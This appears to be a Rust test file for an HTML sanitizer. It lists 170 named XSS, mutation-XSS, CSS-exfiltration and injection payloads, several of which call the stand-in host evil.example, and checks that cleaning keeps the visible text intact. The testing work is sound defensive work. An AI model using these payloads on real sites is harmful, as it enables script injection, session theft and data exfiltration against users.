//! Attacks: none may act, and the reader still sees the sentence beside it.

use super::checker::{cleaned, text_of};

/// Name and HTML of an attack; `VISIBLE` is what its reader sees.
const ATTACKS: [(&str, &str); 170] = [
    ("script", "<script>alert(1)</script>VISIBLE"),
    ("script-upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>VISIBLE"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>VISIBLE"),
    ("script-slash", "<script/x>alert(1)</script>VISIBLE"),
    ("script-in-attribute", "<p title=\"<script>alert(1)</script>\">VISIBLE</p>"),
    ("script-escaped", "<script><!--<script>alert(1)</script>--></script>VISIBLE"),
    ("script-null", "<scr\0ipt>alert(1)</scr\0ipt>VISIBLE"),
    ("script-type", "<script type=text/plain>x</script><p>VISIBLE"),
    ("script-module", "<script type=module>import '//evil.example'</script>VISIBLE"),
    ("on-error", "<img src=x onerror=alert(1)>VISIBLE"),
    ("on-error-slash", "<img/src=x/onerror=alert(1)>VISIBLE"),
    ("on-load-body", "<body onload=alert(1)>VISIBLE"),
    ("on-mouse", "<p onmouseover='alert(1)'>VISIBLE"),
    ("on-newline", "<p on\nclick=alert(1) onclick\n=alert(1)>VISIBLE"),
    ("on-backquote", "<img src=`x` onerror=`alert(1)`>VISIBLE"),
    ("on-toggle", "<details open ontoggle=alert(1)><summary>VISIBLE</summary></details>"),
    ("on-focus", "<input autofocus onfocus=alert(1) value=VISIBLE>"),
    ("on-animation", "<p style=\"animation:x 1s\" onanimationend=alert(1)>VISIBLE"),
    ("on-start", "<marquee onstart=alert(1)>VISIBLE</marquee>"),
    ("on-pointer", "<div onpointerrawupdate=alert(1)>VISIBLE</div>"),
    ("on-quote-break", "<p title='\"onclick=alert(1) \"'>VISIBLE</p>"),
    ("javascript", "<a href=javascript:alert(1)>VISIBLE</a>"),
    ("javascript-case", "<a href=JaVaScRiPt:alert(1)>VISIBLE</a>"),
    ("javascript-tab", "<a href=\"java\tscript:alert(1)\">VISIBLE</a>"),
    ("javascript-newline", "<a href=\"java\nscript\n:alert(1)\">VISIBLE</a>"),
    ("javascript-entity", "<a href=\"&#106;avascript&colon;alert(1)\">VISIBLE</a>"),
    ("javascript-entity-open", "<a href=\"&#0000106&#0000097vascript:alert(1)\">VISIBLE</a>"),
    ("javascript-control", "<a href=\"\u{1} javascript:alert(1)\">VISIBLE</a>"),
    ("javascript-newline-entity", "<a href=\"java&NewLine;script&Tab;:alert(1)\">VISIBLE</a>"),
    ("javascript-percent", "<a href=\"javascript%3Aalert(1)\">VISIBLE</a>"),
    ("javascript-wide", "<a href=\"ｊavascript:alert(1)\">VISIBLE</a>"),
    ("vbscript", "<a href=\"vbscript:msgbox(1)\">VISIBLE</a>"),
    ("view-source", "<a href=\"view-source:javascript:alert(1)\">VISIBLE</a>"),
    ("feed", "<a href=\"feed:javascript:alert(1)\">VISIBLE</a>"),
    ("blob", "<a href=\"blob:https://evil.example/x\">VISIBLE</a>"),
    ("file", "<a href=\"file:///etc/passwd\">VISIBLE</a>"),
    ("ms-protocol", "<a href=\"ms-msdt:/id x\">VISIBLE</a>"),
    ("data-link", "<a href=\"data:text/html,<script>alert(1)</script>\">VISIBLE</a>"),
    ("data-link-base64", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">VISIBLE</a>"),
    ("xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text>VISIBLE</text></a></svg>"),
    ("ping", "<a href=\"https://a.example/\" ping=\"https://evil.example/\">VISIBLE</a>"),
    ("svg-onload", "<svg onload=alert(1)>VISIBLE</svg>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>VISIBLE"),
    ("svg-script-href", "<svg><script href=data:,alert(1) /></svg>VISIBLE"),
    (
        "svg-animate",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>VISIBLE</text></a></svg>",
    ),
    ("svg-set", "<svg><set attributeName=onmouseover to=alert(1) /></svg>VISIBLE"),
    ("svg-use", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\" /></svg>VISIBLE"),
    ("svg-image", "<svg><image href=\"https://evil.example/x.png\" onerror=alert(1) /></svg>VISIBLE"),
    ("svg-foreign", "<svg><foreignObject><img src=x onerror=alert(1)><p>VISIBLE</p></foreignObject></svg>"),
    ("svg-style", "<svg><style><img src=x onerror=alert(1)></style></svg>VISIBLE"),
    ("svg-title", "<svg><title><img src=x onerror=alert(1)></title></svg>VISIBLE"),
    ("svg-cdata", "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>VISIBLE"),
    ("math-link", "<math href=\"javascript:alert(1)\"><mi>VISIBLE</mi></math>"),
    (
        "math-annotation",
        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>VISIBLE",
    ),
    (
        "math-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>VISIBLE",
    ),
    (
        "math-malign",
        "VISIBLE<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\"></form>",
    ),
    (
        "math-maction",
        "<math><maction actiontype=\"statusline#https://evil.example\" xlink:href=\"javascript:alert(1)\">VISIBLE</maction></math>",
    ),
    ("style-url", "<p style=\"background:url(https://evil.example/x)\">VISIBLE"),
    ("style-url-escape", "<p style=\"background:\\75\\72\\6c(https://evil.example/x)\">VISIBLE"),
    ("style-image-set", "<p style=\"background-image:image-set('https://evil.example/x' 1x)\">VISIBLE"),
    ("style-expression", "<p style=\"width:expression(alert(1))\">VISIBLE"),
    ("style-expression-comment", "<p style=\"width:exp/**/ression(alert(1))\">VISIBLE"),
    ("style-behavior", "<p style=\"behavior:url(#default#time2)\">VISIBLE"),
    ("style-binding", "<p style=\"-moz-binding:url(https://evil.example/x#y)\">VISIBLE"),
    ("style-import", "<p style=\"@import 'https://evil.example/x'\">VISIBLE"),
    ("style-fixed", "<p style=\"position:fixed;inset:0;z-index:99999;background:#fff\">VISIBLE"),
    ("style-sticky", "<p style=\"position:sticky;top:0\">VISIBLE"),
    ("style-negative", "<p style=\"margin-top:-400px\">VISIBLE"),
    ("style-huge", "<p style=\"font-size:99999px;width:9999999px\">VISIBLE"),
    ("style-content", "<p style=\"content:url(https://evil.example/)\">VISIBLE"),
    ("style-var", "<p style=\"--a:url(https://evil.example/);background:var(--a)\">VISIBLE"),
    ("style-quote-break", "<p style='font-family:\"x\\\";}*{background:url(https://evil.example/)}'>VISIBLE"),
    ("style-entity", "<p style=\"background&#58;url(&quot;https://evil.example/&quot;)\">VISIBLE"),
    ("style-markup", "<p style=\"font-family:'</style><script>alert(1)</script>'\">VISIBLE"),
    ("style-filter", "<p style=\"filter:url(https://evil.example/#f)\">VISIBLE"),
    ("style-cursor", "<p style=\"cursor:url(https://evil.example/c.cur),auto\">VISIBLE"),
    ("style-list", "<ul style=\"list-style-image:url(https://evil.example/)\"><li>VISIBLE</ul>"),
    ("style-font-face", "<style>@font-face{font-family:x;src:url(https://evil.example/)}</style>VISIBLE"),
    ("style-sheet-import", "<style>@import url(https://evil.example/);</style>VISIBLE"),
    ("style-sheet-selector", "<style>input[value^=a]{background:url(https://evil.example/a)}</style>VISIBLE"),
    ("style-sheet-unclosed", "<p>VISIBLE</p><style>*{background:url(https://evil.example/"),
    ("link-sheet", "<link rel=stylesheet href=https://evil.example/x.css>VISIBLE"),
    ("link-prefetch", "<link rel=dns-prefetch href=//evil.example>VISIBLE"),
    ("link-import", "<link rel=import href=https://evil.example/>VISIBLE"),
    ("meta-refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">VISIBLE"),
    ("meta-csp", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">VISIBLE"),
    ("meta-cookie", "<meta http-equiv=Set-Cookie content=\"a=b\">VISIBLE"),
    ("base", "<base href=https://evil.example/><a href=x>VISIBLE</a>"),
    ("base-target", "<base target=_top>VISIBLE"),
    ("form", "<form action=https://evil.example/><input name=a value=b><button>VISIBLE</button></form>"),
    ("form-formaction", "<button form=x formaction=javascript:alert(1)>VISIBLE</button>"),
    ("form-image", "<input type=image src=https://evil.example/x formaction=javascript:alert(1)>VISIBLE"),
    ("form-isindex", "<isindex action=javascript:alert(1) prompt=x>VISIBLE"),
    ("form-select", "<select onchange=alert(1)><option>VISIBLE<option>b</select>"),
    ("form-textarea", "<textarea autofocus onfocus=alert(1)>VISIBLE</textarea>"),
    ("form-nested", "<form><div></form><form id=x><input name=attributes>VISIBLE</form>"),
    ("form-clobber", "<form name=document><input name=cookie></form><img name=getElementById>VISIBLE"),
    ("iframe", "<iframe src=javascript:alert(1)></iframe>VISIBLE"),
    ("iframe-srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>VISIBLE"),
    ("iframe-raw", "<iframe><img src=x onerror=alert(1)></iframe>VISIBLE"),
    ("frameset-late", "VISIBLE<frameset><frame src=javascript:alert(1)></frameset>"),
    ("object", "<object data=https://evil.example/x.swf>VISIBLE</object>"),
    ("object-param", "<object><param name=src value=https://evil.example/>VISIBLE</object>"),
    ("embed", "<embed src=data:text/html,x>VISIBLE"),
    ("applet", "<applet code=Evil codebase=https://evil.example/>VISIBLE</applet>"),
    ("portal", "<portal src=https://evil.example/></portal>VISIBLE"),
    (
        "video",
        "<video poster=https://evil.example/p src=https://evil.example/v onloadstart=alert(1)></video>VISIBLE",
    ),
    ("audio", "<audio src=https://evil.example/a autoplay></audio>VISIBLE"),
    ("video-source", "<video><source onerror=alert(1) src=x></video>VISIBLE"),
    ("srcset", "<img srcset=\"https://evil.example/1 1x, https://evil.example/2 2x\">VISIBLE"),
    (
        "picture",
        "<picture><source srcset=https://evil.example/1><img src=https://evil.example/2></picture>VISIBLE",
    ),
    ("image-tag", "<image src=x onerror=alert(1)>VISIBLE"),
    ("image-lowsrc", "<img lowsrc=https://evil.example/ dynsrc=https://evil.example/>VISIBLE"),
    ("image-svg-data", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">VISIBLE"),
    ("image-html-data", "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">VISIBLE"),
    ("image-unc", "<img src=\"\\\\evil.example\\share\\x\">VISIBLE"),
    ("image-file", "<img src=\"file://evil.example/x\">VISIBLE"),
    (
        "background",
        "<table background=https://evil.example/><tr><td background=//evil.example/>VISIBLE</table>",
    ),
    ("body-background", "<body background=\"javascript:alert(1)\">VISIBLE"),
    (
        "mxss-noscript",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">VISIBLE</p></noscript>",
    ),
    ("mxss-template", "<template><script>alert(1)</script></template>VISIBLE"),
    ("mxss-shadow", "<div><template shadowrootmode=open><script>alert(1)</script></template>VISIBLE</div>"),
    ("mxss-title", "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>VISIBLE"),
    ("mxss-textarea", "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\">VISIBLE"),
    ("mxss-xmp", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">VISIBLE"),
    ("mxss-plaintext", "<plaintext><img src=x onerror=alert(1)>VISIBLE"),
    ("mxss-listing", "<listing>&lt;img onerror=alert(1) src=x&gt;VISIBLE</listing>"),
    ("mxss-noembed", "<noembed><a title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>VISIBLE"),
    ("mxss-svg-p", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">VISIBLE"),
    ("mxss-svg-br", "<svg><br><style><!--</style><img src=x onerror=alert(1)>-->VISIBLE"),
    ("mxss-table", "<table><a><tr><td><a>VISIBLE</a><b><table><i></table>"),
    ("mxss-dialog", "<p><dialog open><p>VISIBLE<b><p></dialog>"),
    ("mxss-select", "<select><style></select><img src=x onerror=alert(1)></style></select>VISIBLE"),
    ("mxss-option", "<select><option><noscript></select></option><script>alert(1)</script>VISIBLE"),
    ("mxss-nested-a", "<a href=https://a.example/><table><td><a href=javascript:alert(1)>VISIBLE</table>"),
    ("mxss-ruby", "<ruby><rt><p><rtc><b>VISIBLE"),
    ("mxss-li", "<ul><li><b><li><b><li>VISIBLE"),
    ("comment", "<!-- <img src=x onerror=alert(1)> -->VISIBLE"),
    ("comment-short", "<!--><img src=x onerror=alert(1)>-->VISIBLE"),
    ("comment-dash", "<!---><img src=x onerror=alert(1)>-->VISIBLE"),
    ("comment-bang", "<!-- --!><img src=x onerror=alert(1)>-->VISIBLE"),
    ("comment-conditional", "<!--[if gte mso 9]><img src=https://evil.example/><![endif]-->VISIBLE"),
    ("comment-revealed", "<![if !mso]><p>VISIBLE</p><![endif]>"),
    ("comment-bogus", "</ onclick=alert(1)><?php alert(1) ?>VISIBLE"),
    ("cdata", "<![CDATA[<img src=x onerror=alert(1)>]]>VISIBLE"),
    ("doctype", "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;VISIBLE"),
    ("xml", "<?xml-stylesheet href=\"javascript:alert(1)\"?>VISIBLE"),
    ("null-attribute", "<img s\0rc=x on\0error=alert(1)>VISIBLE"),
    ("null-value", "<a href=\"java\0script:alert(1)\">VISIBLE</a>"),
    ("entity-tag", "&lt;script&gt;alert(1)&lt;/script&gt;VISIBLE"),
    ("entity-double", "&amp;lt;script&amp;gt;VISIBLE"),
    ("entity-unended", "<p title=\"&ltimg onerror=alert(1)&gt\">VISIBLE</p>"),
    ("unclosed-tag", "VISIBLE<img src=x onerror=alert(1)"),
    ("unclosed-attribute", "VISIBLE<a title=\"x><script>alert(1)</script>"),
    ("unclosed-comment", "VISIBLE<!-- <script>alert(1)</script>"),
    ("wrong-nesting", "<b><i></b>VISIBLE</i><script>alert(1)</script>"),
    ("duplicate-attribute", "<a href=https://a.example/ href=javascript:alert(1)>VISIBLE</a>"),
    ("attribute-first", "<a href=javascript:alert(1) href=https://a.example/>VISIBLE</a>"),
    ("namespace-attribute", "<p xmlns:x=\"x\" x:onclick=alert(1) xml:base=javascript:>VISIBLE</p>"),
    ("custom-element", "<x-evil onclick=alert(1) is=y>VISIBLE</x-evil>"),
    ("slash-name", "<a/onclick=alert(1)/href=javascript:x>VISIBLE</a>"),
    ("id-name-class", "<p id=main class=warning name=x>VISIBLE"),
    ("access-key", "<a accesskey=x tabindex=1 contenteditable href=https://a.example/>VISIBLE</a>"),
    ("map", "<map name=m><area href=javascript:alert(1) alt=VISIBLE></map><img usemap=#m>"),
    ("bidi-override", "<bdo dir=rtl>VISIBLE</bdo>"),
    ("colspan-huge", "<table><td colspan=999999999 rowspan=999999999>VISIBLE</table>"),
    ("popover", "<p popover id=x>VISIBLE</p><button popovertarget=x>o</button>"),
    ("fenced-frame", "<fencedframe>VISIBLE</fencedframe>"),
    ("keygen", "<keygen autofocus onfocus=alert(1)>VISIBLE"),
    ("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-VISIBLE"),
];

fn check(name: &str, html: &str) {
    let cleaned = cleaned(html);
    let text = text_of(&cleaned.html);
    assert!(text.contains("VISIBLE"), "{name}: {html}\nbecame {}", cleaned.html);
    let again = super::checker::cleaned(&cleaned.html);
    assert_eq!(text_of(&again.html), text, "{name}: cleaned once more");
    assert_eq!(again.html, format!("<div>{}</div>", cleaned.html), "{name}: cleaned once more");
}

#[test]
fn no_attack_acts_and_its_text_survives() {
    for (name, html) in ATTACKS {
        check(name, html);
    }
}

#[test]
fn no_attack_acts_inside_a_layout() {
    for (name, html) in ATTACKS {
        let wrapped = format!("<html><body><table><tr><td><div><p>{html}");
        let text = text_of(&cleaned(&wrapped).html);
        assert!(text.contains("VISIBLE"), "{name} in a table");
    }
}

#[test]
fn no_two_attacks_make_a_third() {
    for (_, first) in ATTACKS {
        for (_, second) in ATTACKS.iter().step_by(7) {
            cleaned(&format!("{first}{second}"));
        }
    }
}
